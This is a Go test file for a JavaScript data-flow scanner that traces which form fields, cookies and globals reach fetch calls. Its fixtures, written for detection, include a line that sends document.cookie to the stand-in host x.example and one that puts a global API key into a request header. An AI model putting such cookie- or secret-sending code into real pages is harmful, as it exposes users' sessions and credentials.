package js_test

import (
	"fmt"
	"strings"
	"testing"

	"ringfence/internal/scan/js"
)

// sources renders what goes into the first sender of a script.
func sources(src string) string {
	var out []string
	if calls := js.Scan(src).Calls; len(calls) > 0 {
		for _, s := range js.Follow(src).Sources(calls[0].Pos) {
			out = append(out, strings.Trim(fmt.Sprintf("%s:%s.%s", s.Kind, s.Name, s.Key), "."))
		}
	}
	return strings.Join(out, " ")
}

// TestFollow: through variables, parameters, properties and forms; what does not go into the call is left out.
func TestFollow(t *testing.T) {
	for name, c := range map[string][2]string{
		"straight":  {`fetch(u, {body: document.getElementById('chat-message').value})`, "field:chat_message"},
		"variable":  {`const m = $('#billing_email').val(); const other = $('#phone').val(); fetch('/x', {body: JSON.stringify({m})})`, "field:#billing_email"},
		"parameter": {`function ask(text) { return fetch(API, {body: text}) } const API = 'https://api.openai.com/v1'; ask(document.querySelector('[name=q]').value)`, "text:https://api.openai.com/v1 field:[name=q]"},
		"arrow":     {"const send = async (a, b) => { await fetch(`https://x.example/${a}`, {body: b}) }; send(id, document.cookie)", "text:https://x.example/ cookie:document.cookie"},
		"form":      {`var d = new FormData(f); d.append('msg', $('#m').val()); fetch(u, {method: 'POST', body: d})`, "form:FormData field:#m"},
		"global":    {`fetch(u, {headers: {Authorization: 'Bearer ' + chatData.api_key}})`, "global:chatData.api_key"},
		"scopes":    {`function a() { const m = document.cookie; save(m) } function b() { const m = $('#q').val(); fetch('/x', {body: m}) }`, "field:#q"},
		"shadow":    {`let m = $('#phone').val(); function b(m) { fetch('/x', {body: m}) } b($('#q').val())`, "field:#q"},
		"outer":     {`let m = $('#phone').val(); function b() { if (x) { fetch('/x', {body: m}) } }`, "field:#phone"},
		"assigned":  {`let m; function set() { m = $('#city').val() } function b() { fetch('/x', {body: m}) }`, "field:#city"},
		"circle":    {`a = b; b = a; fetch(a)`, ""},
	} {
		if got := sources(c[0]); got != c[1] {
			t.Errorf("%s: %q, want %q", name, got, c[1])
		}
	}
}

// FuzzFollow: no bytes make it panic or run on.
func FuzzFollow(f *testing.F) {
	for _, s := range []string{"fetch(`${`${a}`}`)", "a=>fetch(a)", "x=(a,b)=>{fetch(b)};x(1,2)", "fetch(/[/]/)", "{{{fetch(", "f.append(fetch(f))"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		flow := js.Follow(src)
		for _, c := range js.Scan(src).Calls {
			for _, s := range flow.Sources(c.Pos) {
				if s.Pos < 0 || s.Pos > len(src) {
					t.Fatalf("source at %d of %d", s.Pos, len(src))
				}
			}
		}
	})
}
